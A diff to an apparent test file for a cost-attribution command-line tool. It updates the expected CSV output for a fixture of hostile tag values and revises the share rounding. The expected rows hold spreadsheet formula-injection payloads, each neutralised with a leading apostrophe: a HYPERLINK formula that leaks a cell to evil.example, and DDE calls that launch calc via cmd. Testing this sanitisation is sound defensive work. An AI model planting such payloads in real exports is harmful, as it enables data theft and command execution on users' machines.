@@ -16,17 +16,20 @@ import { FORMULAS, RETITLE, hostileStore } from './fixtures.ts';
 
 /**
  * `costlens attribute --tag team --period 2025-03 --format csv` on the hostile store, by hand:
- * 41.50 in all; `\t=1+1` and `\r=1+1` fold into one value `=1+1` (6.00 + 5.00); shares of 41.50
- * rounded by largest remainder (they add up to 100.00), billed and effective shares alike (billed =
- * effective here); the credit stays -12.50 and -30.12 %.
+ * 41.50 in all; `\t=1+1` (6.00) and `\r=1+1` (5.00) are values of their own (only spaces are trimmed
+ * off a tag value: README "Tags the same everywhere"), each neutralised by a leading `'`, the one holding
+ * a CR quoted; shares of 41.50 rounded by largest remainder (they add up to 100.00: the floors add up
+ * to 99.92, and the eight largest remainders, -30.1205's .95 down to 19.2771's .71, take a cent each),
+ * billed and effective shares alike (billed = effective here); the credit stays -12.50 and -30.12 %.
  */
 const EXPECTED_CHARGEBACK = [
   'period,team,attributed_by,billed_direct,billed_shared_by_billed,billed_cost,effective_direct,effective_shared_by_effective,effective_cost,billed_share_pct,effective_share_pct',
-  "2025-03,'=1+1,alias,11.00,0.00,11.00,11.00,0.00,11.00,26.50,26.50",
   `2025-03,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",tag,10.00,0.00,10.00,10.00,0.00,10.00,24.09,24.09`,
-  "2025-03,'+1+cmd|' /C calc'!A0,tag,9.00,0.00,9.00,9.00,0.00,9.00,21.69,21.69",
+  "2025-03,'+1+cmd|' /C calc'!A0,tag,9.00,0.00,9.00,9.00,0.00,9.00,21.68,21.68",
   "2025-03,'@SUM(1+1)*cmd|' /C calc'!A0,tag,8.00,0.00,8.00,8.00,0.00,8.00,19.28,19.28",
   "2025-03,'-2+3+cmd|' /C calc'!A0,tag,7.00,0.00,7.00,7.00,0.00,7.00,16.87,16.87",
+  "2025-03,'\t=1+1,tag,6.00,0.00,6.00,6.00,0.00,6.00,14.46,14.46",
+  `2025-03,"'\r=1+1",tag,5.00,0.00,5.00,5.00,0.00,5.00,12.05,12.05`,
   '2025-03,payments,tag,4.00,0.00,4.00,4.00,0.00,4.00,9.64,9.64',
   `2025-03,${RETITLE},tag,3.00,0.00,3.00,3.00,0.00,3.00,7.23,7.23`,
   '2025-03,refunds,tag,-12.50,0.00,-12.50,-12.50,0.00,-12.50,-30.12,-30.12',
